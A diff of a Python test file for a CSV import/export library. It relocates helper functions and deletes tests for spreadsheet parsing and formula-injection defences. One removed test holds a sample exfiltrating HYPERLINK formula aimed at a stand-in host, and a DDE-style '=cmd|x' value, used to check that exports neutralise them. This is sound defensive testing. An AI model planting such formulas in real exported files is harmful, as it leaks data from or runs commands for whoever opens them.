@@ -10,11 +10,9 @@ import subprocess
 import sys
 import threading
 import time
-from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
-import numpy as np
 import pandas as pd
 import pytest
 from hypothesis import HealthCheck, given, settings
@@ -22,12 +20,12 @@ from hypothesis import strategies as st
 
 import steelyard as sy
 from steelyard.errors import StoreError, StudyError
-from steelyard.exchange import answers_table, export_file, import_file, write_table
-from steelyard.exchange.cells import harmless, moment, restored, truth
+from steelyard.exchange import answers_table, export_file, import_file
 from steelyard.store.errors import ConflictError
 from steelyard.store.importing import ForeignAnswer
 from steelyard.store.records import NewComparison, NewPair
 from steelyard.study import Study
+from tests.exchange.files import make_study, write
 
 BACKENDS = ["sqlite", pytest.param("postgresql", marks=pytest.mark.postgres)]
 
@@ -36,21 +34,6 @@ BACKENDS = ["sqlite", pytest.param("postgresql", marks=pytest.mark.postgres)]
 def where(request: pytest.FixtureRequest) -> dict[str, str]:
     """Where a study keeps its answers."""
     return {} if request.param == "sqlite" else {"store": request.getfixturevalue("postgres_url")}
-
-
-def make_study(folder: Path, rows: int = 40, **changes: str) -> Study:
-    folder.mkdir(parents=True, exist_ok=True)
-    np.save(folder / "x.npy", np.random.default_rng(0).normal(size=(rows, 3)).astype(np.float32))
-    (folder / "labels.csv").write_text("image\n" + "\n".join(f"ward/i{k}.png" for k in range(rows)))
-    catalog = sy.Catalog.from_features(folder / "x.npy", folder / "labels.csv")
-    return Study.create(folder / "study", catalog, preset="features", **changes)
-
-
-@pytest.fixture
-def study(tmp_path: Path) -> Iterator[Study]:
-    with make_study(tmp_path / "s") as made:
-        yield made
-        assert made.store.check() == []
 
 
 def lines(n: int, rows: int = 40) -> list[str]:
@@ -63,20 +46,12 @@ def lines(n: int, rows: int = 40) -> list[str]:
     return found
 
 
-def write(path: Path, rows: list[str]) -> Path:
-    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
-    return path
-
-
 def nothing_there(study: Study) -> bool:
     return (
         not study.store.answers.log()
         and not len(study.store.pairs.columns().rows)
         and not study.store.audit.log()
     )
-
-
-# ---------------------------------------------------------------------- all or nothing
 
 
 @pytest.mark.parametrize(
@@ -162,9 +137,6 @@ def test_killed_at_any_moment_nothing_or_everything_is_there(tmp_path: Path, whe
     assert int(done.stdout) >= 2, "some were killed before their end"
 
 
-# ---------------------------------------------------------------------- once
-
-
 def test_two_imports_of_one_file_at_once_are_one(tmp_path: Path, where: dict[str, str]) -> None:
     file = write(tmp_path / "a.csv", lines(400))
     with make_study(tmp_path / "s", **where) as study:
@@ -242,9 +214,6 @@ def test_what_0_1_imported_is_not_doubled(study: Study, tmp_path: Path) -> None:
     assert import_file(study, file).to_dict() == {"added": 0, "known": 1}
 
 
-# ---------------------------------------------------------------------- written down
-
-
 def test_the_audit_log_says_who_when_which_file_and_how_many(study: Study, tmp_path: Path) -> None:
     file = write(tmp_path / "a.csv", lines(7))
     import_file(study, file, by="Dr. K")
@@ -280,100 +249,6 @@ def test_the_source_says_import_and_what_it_was(study: Study, tmp_path: Path) ->
             "import:api",
             "import:virtual",
         }
-
-
-# ---------------------------------------------------------------------- what spreadsheets do
-
-
-@pytest.mark.parametrize("word", ["true", "TRUE", "True", "1", "1.0", "yes", " Yes ", "WAHR", True, 1, 1.0])
-def test_words_for_yes(word: Any) -> None:
-    assert truth(word, "reserved") is True
-
-
-@pytest.mark.parametrize(
-    "word", ["false", "FALSE", "0", "0.0", "no", "", " ", "FALSCH", None, False, 0, float("nan")]
-)
-def test_words_for_no(word: Any) -> None:
-    assert truth(word, "reserved") is False
-
-
-@pytest.mark.parametrize(
-    ("cell", "seconds"),
-    [
-        ("1700000000.25", 1700000000.25),
-        ("1700000000,25", 1700000000.25),
-        ("2023-11-14T22:13:20Z", 1700000000.0),
-        ("2023-11-14 23:13:20+01:00", 1700000000.0),
-        ("2023-11-14 22:13:20", 1700000000.0),
-        ("2023-11-14", 1699920000.0),
-        ("", None),
-        ("nan", None),
-        (None, None),
-        (17, 17.0),
-    ],
-)
-def test_times_as_seconds_or_dates(cell: Any, seconds: float | None) -> None:
-    assert moment(cell, "answered_at") == seconds
-
-
-def test_reserved_survives_a_spreadsheet(study: Study, tmp_path: Path) -> None:
-    rows = [
-        "left,right,answer,reserved",
-        "i1.png,i2.png,left,TRUE",
-        "i3.png,i4.png,left,1",
-        "i5.png,i6.png,left,FALSE",
-    ]
-    import_file(study, write(tmp_path / "a.csv", rows))
-    assert [p.reserved for p in study.store.pairs.all()] == [True, True, False]
-
-
-@pytest.mark.parametrize(
-    "content",
-    [
-        "\ufeffleft,right,answer,note\ni1.png,i2.png,left,gut\n".encode(),
-        b"left;right;answer;note\r\ni1.png;i2.png;left;gut\r\n;;;\r\n\r\n",
-        b"left\tright\tanswer\tnote\ni1.png\ti2.png\tleft\tgut\n",
-        b"sep=;\nleft;right;answer;note\ni1.png;i2.png;left;gut\n",
-        b" Left , RIGHT ,Answer,Note,,\ni1.png,i2.png,Left,gut,,\n,,,,,\n",
-        "left\tright\tanswer\tnote\r\ni1.png\ti2.png\tleft\tgut\r\n".encode("utf-16"),
-        b",left,right,answer,note\n0,i1.png,i2.png,1,gut\n",
-    ],
-    ids=["mark", "semicolon", "tab", "sep line", "case and spaces", "UTF-16", "row numbers"],
-)
-def test_files_as_spreadsheets_save_them(study: Study, tmp_path: Path, content: bytes) -> None:
-    (tmp_path / "a.csv").write_bytes(content)
-    assert import_file(study, tmp_path / "a.csv").added == 1
-    [one] = study.store.answers.log()
-    assert (one.answer, one.note) == (sy.Answer.LEFT, "gut")
-
-
-# ---------------------------------------------------------------------- formulas
-
-
-@given(st.text(max_size=20))
-def test_every_text_is_restored(text: str) -> None:
-    cell = harmless(text)
-    assert restored(cell) == text
-    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
-
-
-def test_no_cell_of_an_export_is_a_formula(study: Study, tmp_path: Path) -> None:
-    attack = '=HYPERLINK("http://x/?"&A1,"+")'
-    for pair, text in zip(study.ask(5), (attack, "+1", "-1", "@SUM(A1)", "\t=1"), strict=True):
-        study.tell(pair, sy.Answer.LEFT, note=text, annotator="=cmd|x" if text == attack else "kt")
-    export_file(study, tmp_path / "a.csv")
-    table = pd.read_csv(tmp_path / "a.csv", dtype=str, keep_default_na=False)
-    assert not table.map(lambda cell: cell.startswith(("=", "+", "-", "@", "\t", "\r"))).any().any()
-    with make_study(tmp_path / "two") as other:
-        import_file(other, tmp_path / "a.csv")
-        assert [(c.note, c.annotator) for c in other.store.answers.log()] == [
-            (c.note, c.annotator) for c in study.store.answers.log()
-        ]
-
-
-def test_tables_of_scores_hold_no_formula_and_keep_their_numbers(tmp_path: Path) -> None:
-    write_table(pd.DataFrame({"path": ["=1.png", "'a.png"], "score": [-1.5, 2.0]}), tmp_path / "a.csv")
-    assert (tmp_path / "a.csv").read_text() == "path,score\n'=1.png,-1.5\n''a.png,2.0\n"
 
 
 names = st.text(st.characters(codec="utf-8", categories=("L", "N", "P", "S")), min_size=1, max_size=20)
